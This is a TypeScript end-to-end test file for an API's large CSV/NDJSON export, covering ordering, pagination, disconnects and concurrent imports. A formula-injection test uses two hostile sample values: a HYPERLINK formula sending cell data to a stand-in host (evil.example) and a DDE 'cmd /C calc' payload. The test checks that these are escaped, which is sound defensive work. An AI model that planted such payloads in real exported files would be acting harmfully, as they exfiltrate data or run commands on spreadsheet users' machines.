import { setTimeout as sleep } from 'node:timers/promises'
import { beforeAll, expect, inject, test } from 'vitest'
import { importAsOperator } from '#e2e/setup/operator.ts'
import { type Credentials, createToken, createUser } from '../support/access.ts'
import type { ListBody } from '../support/bodies.ts'
import { assetsOf, v2 } from '../support/versions.ts'
import { fetchAs, linesOf } from './csv-request.ts'

const partner = 'd0000000-0000-4000-8000-00000000000d'
const count = 12_345
const large = assetsOf(v2, 'large')
const formula = '=HYPERLINK("http://evil.example?"&A1,"Berlin, 1")'
const status = "@SUM(1+1)*cmd|' /C calc'!A0"
let as: Credentials

beforeAll(async () => {
  const location = 'd0000000-0000-4000-8000-0000000000d1'
  const records: object[] = [
    { kind: 'partner', uuid: partner, name: 'Large' },
    { kind: 'location', uuid: location, name: formula },
    { kind: 'hybrid_core', id: 'large', partner_uuid: partner, location_uuid: location, status: '-1+1' },
  ]
  for (let n = 0; n < count; n++) {
    const storage = { used: (n * 7_919) % count, total: count }
    records.push({
      kind: 'asset',
      hybrid_core_id: 'large',
      id: `n-${n}`,
      node_type: 'object_storage',
      status,
      storage,
    })
  }
  await importAsOperator(inject('env'), records)
  const email = `owner-${Date.now()}@large.example`
  await createUser(email, { partnerUuid: partner })
  as = await createToken(email, 'CSV')
})

test('CSV has every row of a large core once, in the order of the list', async () => {
  const lines = await linesOf(`${large}?sort[storage_usage]=-`, { as })
  expect(lines).toHaveLength(count)
  expect(new Set(lines.map(({ id }) => id)).size).toBe(count)
  const used = lines.map((line) => Number(line['storage_usage.raw (bytes)']))
  expect(used).toEqual(used.toSorted((a, b) => b - a))
  const page = await fetchAs(`${large}?sort[storage_usage]=-&page[number]=247`, { as, accept: null })
  const { data } = (await page.json()) as ListBody
  expect(lines.slice(246 * 50).map(({ id }) => id)).toEqual(data.map(({ id }) => id))
})
test('CSV escapes text that a spreadsheet would run as a formula', async () => {
  const [core] = await linesOf(v2.cores, { as })
  expect(core).toMatchObject({ 'location.name': `'${formula}`, status: "'-1+1" })
  const [asset] = await linesOf(`${large}?filter[id]=n-1`, { as })
  expect(asset).toMatchObject({ status: `'${status}`, id: 'n-1' })
})
test('the server continues after a client has disconnected during a download', async () => {
  for (let n = 0; n < 5; n++) {
    const reader = (await fetchAs(large, { as })).body?.getReader()
    await reader?.read()
    await reader?.cancel()
  }
  expect(await linesOf(`${large}?filter[id]=n-1*`, { as })).toHaveLength(3_456)
})

const formats = [
  { accept: 'text/csv', idsOf: (lines: string[]) => lines.slice(1).map((line) => line.slice(0, line.indexOf(','))) },
  { accept: 'application/x-ndjson', idsOf: (lines: string[]) => lines.map((line) => JSON.parse(line).id as string) },
] as const

/** The ids in the complete downloads of a list, in both formats, while records are imported again and again, and the number of imports. */
async function downloadsDuring(target: string, recordsOf: (n: number) => object[]) {
  let isOver = false
  let imports = 0
  const importing = (async () => {
    for (; !isOver; imports++) {
      await importAsOperator(inject('env'), recordsOf(imports))
      // Some downloads fit between two imports.
      await sleep(300)
    }
  })()
  const complete = new Map<string, string[][]>()
  for (const { accept, idsOf } of formats) {
    const ofFormat: string[][] = []
    for (let n = 0; n < 5 || (ofFormat.length === 0 && n < 100); n++) {
      const text = await (await fetchAs(target, { as, accept })).text().catch(() => null)
      if (text !== null) ofFormat.push(idsOf(text.trimEnd().split(/\r?\n/)))
    }
    complete.set(accept, ofFormat)
  }
  isOver = true
  await importing
  for (const [accept, downloads] of complete) expect(downloads.length, accept).toBeGreaterThan(0)
  const downloads = [...complete.values()].flat()
  console.log(`${downloads.length} complete downloads during ${imports} imports`)
  return { complete: downloads, imports }
}

test('a download of the fullest assets first has each of them once, or is aborted, while their values change', async () => {
  const node = { kind: 'asset', hybrid_core_id: 'large', node_type: 'object_storage', status }
  const usageOf = (n: number, used: number) => ({ ...node, id: `n-${n}`, storage: { used, total: count } })
  // In each import some of the fullest become the emptiest, and the other way round.
  const { complete } = await downloadsDuring(`${large}?sort[storage_usage]=-`, (n) =>
    Array.from({ length: 100 }, (_, m) => usageOf(n * 100 + m, m % 2 === 0 ? count - m : m)),
  )
  for (const ids of complete) expect([ids.length, new Set(ids).size]).toEqual([count, count])
})
test('a download during an import is complete and without duplicates, or is aborted', async () => {
  const record = (n: number) => ({
    kind: 'asset',
    hybrid_core_id: 'large',
    id: `a-${n}`,
    node_type: 'object_storage',
    status,
  })
  const { complete, imports } = await downloadsDuring(large, (n) => [0, 1, 2].map((m) => record(n * 3 + m)))
  for (const ids of complete) {
    expect(new Set(ids).size).toBe(ids.length)
    expect(Math.abs(ids.length - count) % 3).toBe(0)
  }
  expect(await linesOf(large, { as })).toHaveLength(count + imports * 3)
})
